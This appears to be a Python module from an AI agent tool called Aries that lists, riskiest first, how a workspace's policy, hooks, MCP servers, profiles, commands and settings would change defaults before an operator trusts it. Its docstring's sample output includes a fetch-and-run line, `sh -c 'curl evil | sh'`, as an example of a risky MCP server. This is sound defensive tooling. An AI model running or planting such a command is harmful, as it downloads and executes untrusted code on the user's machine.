"""What trusting a workspace would put in force, as short lines a person reads in seconds.

Each line says one thing the workspace's settings change against Aries's defaults, the riskiest
first::

    MCP server `x` runs `sh -c 'curl evil | sh'`
    allowed roots: / (default: the workspace)
    approval mode: commander (default: guide), set by the workspace's approval_mode

Lines are plain text built from untrusted files: every writer neutralises them (the CLI's one
writer, the TUI's safe Text). Long values are cut so that no single line hides the rest.
"""

from __future__ import annotations

import json
import shlex
from dataclasses import dataclass
from pathlib import Path
from typing import Any

from services.approval_mode import MODE_NAMES, ApprovalMode, approval_mode
from services.errors import ConfigError
from services.trust.authority import WHOLE_META, Authority
from services.workspace.paths import POLICY_FILE

MAX_VALUE = 160


@dataclass(frozen=True)
class ReviewLine:
    risk: int
    """0: starts processes or connects; 1: widens what tools may touch or how they are approved;
    2: everything else."""
    text: str


def _short(value: Any) -> str:
    text = value if isinstance(value, str) else json.dumps(value, ensure_ascii=False, sort_keys=True, default=str)
    text = " ".join(text.split())
    if len(text) > MAX_VALUE:
        return f"{text[:MAX_VALUE]}… ({len(text) - MAX_VALUE} more characters)"
    return text


def _names(values: Any) -> list[str]:
    if not isinstance(values, list):
        return []
    out = []
    for item in values:
        if isinstance(item, dict):
            out.append(str(item.get("id") or item.get("host") or _short(item)))
        else:
            out.append(str(item))
    return out


def _plain_yaml(text: str, source: str) -> Any:
    from services.files.yamlio import parse_yaml_text
    from services.files.yamlio import plain as _plain

    return _plain(parse_yaml_text(text, source=source))


def _default_policy() -> dict[str, Any]:
    from services.policy.loader import default_policy_text

    data = _plain_yaml(default_policy_text(), "policy-default.yaml")
    return data if isinstance(data, dict) else {}


# -- the policy --------------------------------------------------------------------------------
def _policy_lines(text: str) -> list[ReviewLine]:
    from services.policy.loader import parse_policy

    try:
        data = _plain_yaml(text, POLICY_FILE)
        parse_policy(text, source=POLICY_FILE)
    except ConfigError as exc:
        return [ReviewLine(2, f"policy.yaml does not load ({_short(exc.message)}): every tool call fails until fixed")]
    if not isinstance(data, dict):
        return [ReviewLine(2, "policy.yaml is not a mapping: every tool call fails until fixed")]
    default = _default_policy()
    lines: list[ReviewLine] = []
    lines += _hook_lines(data.get("hooks") or {})
    lines += _mcp_lines(data)
    lines += _switch_lines(data, default)
    lines += _fs_lines(data.get("filesystem") or {}, default.get("filesystem") or {})
    lines += _shell_lines(data.get("shell") or {}, default.get("shell") or {})
    lines += _web_lines(data.get("web") or {}, default.get("web") or {})
    for rule in data.get("auto_approve") or []:
        lines.append(ReviewLine(1, f"runs without approval in commander mode: {_short(rule)}"))
    limits, base = data.get("limits") or {}, default.get("limits") or {}
    for key in sorted(limits):
        if limits[key] != base.get(key):
            lines.append(ReviewLine(2, f"limit {key}: {_short(limits[key])} (default: {_short(base.get(key))})"))
    known = {
        "version",
        "mode",
        "providers",
        "tool_classes",
        "tools",
        "filesystem",
        "shell",
        "web",
        "auto_approve",
        "hooks",
    }
    for key in sorted(set(data) - known - {"limits"}):
        if data[key] != default.get(key):
            lines.append(ReviewLine(2, f"policy {key}: {_short(data[key])}"))
    return lines


def _hook_lines(hooks: dict[str, Any]) -> list[ReviewLine]:
    """Each hook as the command it runs and the calls it runs around (``services.tools.hooks``): it
    starts a process at every matching call, so it is listed with the riskiest."""
    lines = []
    for when in ("before", "after"):
        for hook in hooks.get(when) or []:
            hook = hook if isinstance(hook, dict) else {}
            command = shlex.join([str(part) for part in hook.get("command") or []])
            tools = " or ".join(str(t) for t in hook.get("tools") or []) or "no"
            args = hook.get("args") or {}
            where = f" whose {', '.join(f'{k} matches {v!r}' for k, v in sorted(args.items()))}" if args else ""
            what = f"runs `{_short(command)}` {when} every {tools} call{where}"
            extra = " (may deny it)" if when == "before" else ""
            if when == "after" and hook.get("add_to_context"):
                extra = " (its output goes to the model)"
            lines.append(ReviewLine(0, f"hook {_short(str(hook.get('id')))} {_short(what)}{extra}"))
    return lines


def _mcp_lines(data: dict[str, Any]) -> list[ReviewLine]:
    block = (data.get("providers") or {}).get("mcp") or {}
    servers = block.get("servers") or {}
    if not servers:
        return [ReviewLine(0, "MCP provider enabled (no server listed)")] if block.get("enabled") else []
    lines = []
    state = "" if block.get("enabled") else " (listed; the MCP provider is disabled)"
    for name, raw in sorted(servers.items()):
        raw = raw if isinstance(raw, dict) else {}
        if raw.get("url"):
            lines.append(ReviewLine(0, f"MCP server `{name}` connects to {_short(raw['url'])}{state}"))
        else:
            command = shlex.join([str(raw.get("command", "")), *[str(a) for a in raw.get("args") or []]])
            extra = f" with ${', $'.join(map(str, raw['env']))} passed on" if raw.get("env") else ""
            cwd = f" in {_short(raw['cwd'])}" if raw.get("cwd") else ""
            lines.append(ReviewLine(0, f"MCP server `{name}` runs `{_short(command)}`{cwd}{extra}{state}"))
        lines += _mcp_tier_lines(name, raw)
    return lines


def _mcp_tier_lines(name: str, raw: dict[str, Any]) -> list[ReviewLine]:
    """A server's ``tier:`` and per-tool tiers below the default change how its calls are approved (a
    READ_ONLY tool runs unasked in guide mode): each is a line of the review."""
    from services.policy.mcp import DEFAULT_TIER

    lines = []
    if raw.get("tier") is not None and str(raw["tier"]) != str(DEFAULT_TIER):
        lines.append(
            ReviewLine(
                1,
                f"MCP server `{name}`: its tools count as {_short(raw['tier'])} "
                f"(default: {DEFAULT_TIER}), which changes how their calls are approved",
            )
        )
    tools = raw.get("tools")
    for tool, tier in sorted(tools.items() if isinstance(tools, dict) else ()):
        if str(tier) != str(DEFAULT_TIER):
            lines.append(ReviewLine(1, f"MCP tool `{name}:{tool}` counts as {_short(tier)} (default: {DEFAULT_TIER})"))
    return lines


def _switch_lines(data: dict[str, Any], default: dict[str, Any]) -> list[ReviewLine]:
    lines = []
    for name, value in sorted((data.get("providers") or {}).items()):
        if name == "mcp":
            continue
        base = (default.get("providers") or {}).get(name)
        if value != base:
            lines.append(ReviewLine(2, f"provider {name}: {_short(value)} (default: {_short(base)})"))
    classes, base_classes = data.get("tool_classes") or {}, default.get("tool_classes") or {}
    for name in sorted(set(classes) | set(base_classes)):
        value, base = classes.get(name, "disabled"), base_classes.get(name, "disabled")
        if str(value) != str(base):
            enables = str(value) in ("enabled", "True", "true")
            risk = 0 if enables and (name in ("shell", "web") or name.startswith("mcp")) else 1 if enables else 2
            lines.append(ReviewLine(risk, f"tool class {name}: {_short(value)} (default: {base})"))
    for tool, rule in sorted((data.get("tools") or {}).items()):
        lines.append(ReviewLine(1, f"tool {tool}: {_short(rule)}"))
    return lines


def _added(values: Any, base: Any) -> list[str]:
    have = _names(base)
    return [v for v in _names(values) if v not in have]


def _removed(values: Any, base: Any) -> list[str]:
    have = _names(values)
    return [v for v in _names(base) if v not in have]


def _fs_lines(fs: dict[str, Any], base: dict[str, Any]) -> list[ReviewLine]:
    lines = []
    roots = fs.get("allowed_roots", base.get("allowed_roots"))
    if roots != base.get("allowed_roots"):
        shown = ", ".join(_short(r) for r in _names(roots)) or "none"
        lines.append(ReviewLine(1, f"allowed roots: {shown} (default: the workspace)"))
    for key, what in (("deny", "deny rule"), ("deny_extensions", "key-file rule")):
        for name in _removed(fs.get(key, base.get(key)), base.get(key)):
            lines.append(ReviewLine(1, f"{what} {name} removed: tools may touch what it protected"))
        for name in _added(fs.get(key, base.get(key)), base.get(key)):
            lines.append(ReviewLine(2, f"{what} {name} added"))
    if fs.get("allow_hardlinks"):
        lines.append(ReviewLine(1, "hard links may be followed out of the roots (allow_hardlinks: true)"))
    if fs.get("write_extensions", None) != base.get("write_extensions"):
        lines.append(ReviewLine(2, f"only these extensions may be written: {_short(fs.get('write_extensions'))}"))
    return lines


def _shell_lines(shell: dict[str, Any], base: dict[str, Any]) -> list[ReviewLine]:
    lines = []
    programs = [
        n for rule in shell.get("executables") or [] if isinstance(rule, dict) for n in _names(rule.get("names"))
    ]
    defaults = [
        n for rule in base.get("executables") or [] if isinstance(rule, dict) for n in _names(rule.get("names"))
    ]
    new = [p for p in programs if p not in defaults]
    if new:
        lines.append(ReviewLine(1, f"programs allowed: {_short(', '.join(new))} (not in the default list)"))
    for name in _removed(shell.get("privileged", base.get("privileged")), base.get("privileged")):
        lines.append(ReviewLine(1, f"{name} no longer counts as privileged"))
    for key, what in (
        ("env_passthrough", "variables passed to commands"),
        ("env_allow", "variables a call may set"),
        ("inert_programs", "programs treated as unable to run code"),
        ("visible_paths", "paths visible inside the sandbox"),
    ):
        new = _added(shell.get(key, base.get(key)), base.get(key))
        if new:
            lines.append(ReviewLine(1, f"{what}: + {_short(', '.join(new))}"))
    if shell.get("sandbox", base.get("sandbox")) != base.get("sandbox"):
        lines.append(ReviewLine(1, f"shell sandbox: {_short(shell.get('sandbox'))} (default: {base.get('sandbox')})"))
    if shell.get("network"):
        lines.append(ReviewLine(0, "commands may use the network (shell.network: true)"))
    if shell.get("outside_root", base.get("outside_root")) != base.get("outside_root"):
        lines.append(ReviewLine(2, f"outside the roots: {_short(shell.get('outside_root'))}"))
    if shell.get("check_path_arguments", True) is False:
        lines.append(ReviewLine(1, "arguments that name files are not checked against the path rules"))
    return lines


def _web_lines(web: dict[str, Any], base: dict[str, Any]) -> list[ReviewLine]:
    lines = []
    if web.get("searxng_url"):
        lines.append(ReviewLine(0, f"web search goes to {_short(web['searxng_url'])}"))
    new = _added(web.get("schemes", base.get("schemes")), base.get("schemes"))
    if new:
        lines.append(ReviewLine(1, f"web schemes: + {', '.join(new)}"))
    private = _names(web.get("allow_private"))
    if private:
        lines.append(ReviewLine(0, f"private hosts reachable: {_short(', '.join(private))}"))
    if web.get("allow_domains"):
        lines.append(ReviewLine(2, f"web limited to: {_short(', '.join(_names(web['allow_domains'])))}"))
    for name in _removed(web.get("deny_domains", base.get("deny_domains")), base.get("deny_domains")):
        lines.append(ReviewLine(1, f"denied domain {name} removed"))
    return lines


# -- profiles and settings ---------------------------------------------------------------------------
def _profile_lines(name: str, text: str) -> list[ReviewLine]:
    from services.profiles.loader import parse_profile, shipped_dir

    stem = Path(name).stem
    shadow = " (replaces the shipped one)" if (shipped_dir() / name).is_file() else ""
    if not name.endswith(".yaml") or "/" in name:
        return [ReviewLine(2, f"profiles/{_short(name)}: not a profile (kept, never loaded)")]
    try:
        profile = parse_profile(text, source=f"profiles/{name}")
    except ConfigError as exc:
        return [ReviewLine(2, f"profile {stem}{shadow} does not load: {_short(exc.message)}")]
    parts = []
    if profile.tool_patterns is None:
        parts.append("every tool the policy enables")
    else:
        parts.append(f"enables {_short(', '.join(profile.tool_patterns)) or 'no tool'}")
    raw = _plain_yaml(text, name)
    tools = raw.get("tools") if isinstance(raw, dict) else None
    if isinstance(tools, dict) and tools.get("policy"):
        parts.append(f"binds the policy file {_short(tools['policy'])}")
    if profile.model.default:
        parts.append(f"model {_short(profile.model.default)}")
    if profile.cloud is not None and profile.cloud.enabled:
        parts.append(_short(profile.cloud.describe()))
    risk = 0 if (profile.cloud is not None and profile.cloud.enabled) or profile.model.default else 1
    return [ReviewLine(risk, f"profile {stem}{shadow}: {'; '.join(parts)}")]


def _bound_hook_lines(name: str, text: str, profiles: dict[str, str]) -> list[ReviewLine]:
    """The hooks of a policy file a profile binds, when that file is under ``profiles/`` too (a
    workspace's own profile may bring its own policy, hooks and all)."""
    import posixpath

    try:
        raw = _plain_yaml(text, name)
    except ConfigError:
        return []
    tools = raw.get("tools") if isinstance(raw, dict) else None
    bound = tools.get("policy") if isinstance(tools, dict) else None
    if not isinstance(bound, str) or not bound:
        return []
    target = posixpath.normpath(posixpath.join(posixpath.dirname(name), bound))
    if target not in profiles:
        return []
    try:
        data = _plain_yaml(profiles[target], target)
    except ConfigError:
        return []
    hooks = data.get("hooks") if isinstance(data, dict) else None
    stem = Path(name).stem
    return [
        ReviewLine(line.risk, f"profile {stem}'s policy {_short(bound)}: {line.text}")
        for line in _hook_lines(hooks if isinstance(hooks, dict) else {})
    ]


def _settings_lines(settings: dict[str, Any]) -> list[ReviewLine]:
    if WHOLE_META in settings:
        return [ReviewLine(2, f"workspace.yaml does not load ({_short(settings[WHOLE_META])})")]
    lines = []
    if "profile" in settings:
        lines.append(ReviewLine(1, f"active profile: {_short(settings['profile'])} (default: default)"))
    inner = settings.get("settings")
    if isinstance(inner, dict):
        for key, value in sorted(inner.items()):
            if key == "model":
                lines.append(ReviewLine(0, f"model: {_short(value)} (default: offline): Aries connects to it"))
            elif key == "approval_mode":
                continue  # the mode in force is one line (``_mode_lines``), listed when trusting changes it
            elif key == "cloud":
                lines.append(ReviewLine(0, _cloud_line(value)))
            else:
                lines.append(ReviewLine(2, f"workspace setting {key}: {_short(value)}"))
    elif inner is not None:
        lines.append(ReviewLine(2, f"workspace settings: {_short(inner)}"))
    for key in sorted(set(settings) - {"profile", "settings"}):
        lines.append(ReviewLine(2, f"workspace.yaml {key}: {_short(settings[key])}"))
    return lines


def _mode_lines(authority: Authority) -> list[ReviewLine]:
    """The approval mode trusting puts in force, when it differs from the mode in force without the
    workspace's settings (``services.session.inforce``'s table: the same precedence, the same answer)."""
    before = approval_mode(None, None, _profile_mode(authority, trusted=False), None)[0]
    after, level = approval_mode(*_mode_levels(authority))
    if after == before:
        return []
    where = {"workspace": "the workspace's approval_mode", "profile": "its profile", "policy": "its policy.yaml"}
    return [ReviewLine(1, f"approval mode: {after} (default: {before}), set by {where.get(level, level)}")]


def _mode_levels(authority: Authority) -> tuple[None, ApprovalMode | None, ApprovalMode | None, ApprovalMode | None]:
    """``(operator, workspace, profile, policy)`` modes once ``authority`` is in force (no operator)."""
    inner = authority.settings.get("settings") if WHOLE_META not in authority.settings else None
    setting = inner.get("approval_mode") if isinstance(inner, dict) else None
    workspace = _mode_or_none(setting if setting is not None else authority.default_mode)
    policy = None
    if authority.policy is not None:
        try:
            data = _plain_yaml(authority.policy, POLICY_FILE)
        except ConfigError:
            data = None
        policy = _mode_or_none(data.get("mode") if isinstance(data, dict) else None)
    return None, workspace, _profile_mode(authority, trusted=True), policy


def _profile_mode(authority: Authority, *, trusted: bool) -> ApprovalMode | None:
    """The active profile's mode: the workspace's profile when ``trusted``, else the shipped profile it
    names (or ``default``), as ``services.session.inforce.resolve`` chooses."""
    from services.profiles.loader import SUFFIX, parse_profile, shipped_dir

    name = authority.settings.get("profile") if WHOLE_META not in authority.settings else None
    name = name if isinstance(name, str) and name else "default"
    text = authority.profiles.get(f"{name}{SUFFIX}") if trusted else None
    shipped = shipped_dir() / f"{name}{SUFFIX}"
    if text is None and not shipped.is_file():
        name, shipped = "default", shipped_dir() / f"default{SUFFIX}"
    try:
        profile = parse_profile(text if text is not None else shipped.read_text(encoding="utf-8"), source=name)
    except (ConfigError, OSError):
        return None
    return _mode_or_none(profile.mode)


def _mode_or_none(value: Any) -> ApprovalMode | None:
    return ApprovalMode(value) if value in MODE_NAMES else None


def _cloud_line(value: Any) -> str:
    from services.workspace.bridge_config import bridge_config

    try:
        return f"cloud bridge: {_short(bridge_config(value).describe().removeprefix('cloud: '))}"
    except ConfigError as exc:
        return f"cloud bridge: {_short(value)} (does not load: {_short(exc.message)})"


# -- workspace commands and project instructions -------------------------------------------------------
def _command_lines(name: str, text: str, profiles: dict[str, str]) -> list[ReviewLine]:
    """One line per command file: what it sends in the operator's name and the tools it may use (a
    command naming the shell, the web or MCP tools is among the riskiest)."""
    from services.project.commands import RESERVED, SUFFIX, command_tools, parse_command

    stem = name.removesuffix(SUFFIX)
    if not name.endswith(SUFFIX) or "/" in name:
        return [ReviewLine(2, f"commands/{_short(name)}: not a command (kept, never loaded)")]
    try:
        command = parse_command(stem, text, source=f"commands/{name}")
    except ConfigError as exc:
        return [ReviewLine(2, f"command file commands/{_short(name)} does not load: {_short(exc.message)}")]
    if stem in RESERVED:
        return [ReviewLine(2, f"command /{stem} has a built-in's name: shadowed, it never runs")]
    tools, risk = "the active profile's tools", 1
    if command.profile is not None:
        tools = f"the tools of profile {_short(command.profile)}"
        if f"{command.profile}.yaml" in profiles:
            tools += " (a profile of this workspace)"
        risk = 0
    elif command.tools is not None:
        tools = f"tools {_short(', '.join(command.tools)) or 'none'}"
        try:
            ids = command_tools(command, None) or frozenset()
        except ConfigError:
            ids = frozenset()
        risky = any(i.split(":")[1] in ("shell", "web") or i.startswith("mcp") for i in ids if ":" in i)
        risk = 0 if risky else 1
    about = f" ({_short(command.description)})" if command.description else ""
    first = _short(command.body.strip().splitlines()[0]) if command.body.strip() else ""
    return [
        ReviewLine(
            risk,
            f"command /{stem}{about} sends a prompt in your name, with {tools} (within the active profile's): {first}",
        )
    ]


def _instruction_lines(text: str) -> list[ReviewLine]:
    body = " ".join(text.split())
    return [
        ReviewLine(
            1,
            f"AGENTS.md: project instructions in the system prompt of every turn ({len(text):,} characters): "
            f"{_short(body)}",
        )
    ]


def describe(authority: Authority) -> list[ReviewLine]:
    """Every way ``authority`` differs from Aries's defaults, riskiest first."""
    lines: list[ReviewLine] = []
    if authority.policy is not None:
        lines += _policy_lines(authority.policy)
    for name, text in sorted(authority.profiles.items()):
        lines += _profile_lines(name, text)
        lines += _bound_hook_lines(name, text, authority.profiles)
    for name, text in sorted(authority.commands.items()):
        lines += _command_lines(name, text, authority.profiles)
    if authority.instructions is not None:
        lines += _instruction_lines(authority.instructions)
    lines += _settings_lines(authority.settings)
    lines += _mode_lines(authority)
    for index, rows in sorted(authority.index_roots.items()):
        for row in rows:
            lines.append(
                ReviewLine(1, f"index {index} re-reads {_short(row[0])} (rag index update; aries serve serves it)")
            )
    if authority.plan_runs:
        count = len(authority.plan_runs)
        lines.append(
            ReviewLine(
                0,
                f"{count} recorded plan run{'s' if count > 1 else ''} may be replayed (aries replay runs the stored "
                "plan under its stored policy and approvals)",
            )
        )
    return sorted(lines, key=lambda line: line.risk)


@dataclass(frozen=True)
class Review:
    lines: list[ReviewLine]
    """What would be in force, riskiest first (against the defaults)."""
    added: list[str]
    """For a workspace trusted before: lines that are new since then."""
    removed: list[str]
    """... and lines that are gone."""
    first: bool
    """True when the operator never trusted this workspace."""


def review(after: Authority, before: Authority | None) -> Review:
    lines = describe(after)
    if before is None:
        return Review(lines, [line.text for line in lines], [], True)
    old = [line.text for line in describe(before)]
    new = [line.text for line in lines]
    return Review(lines, [t for t in new if t not in old], [t for t in old if t not in new], False)
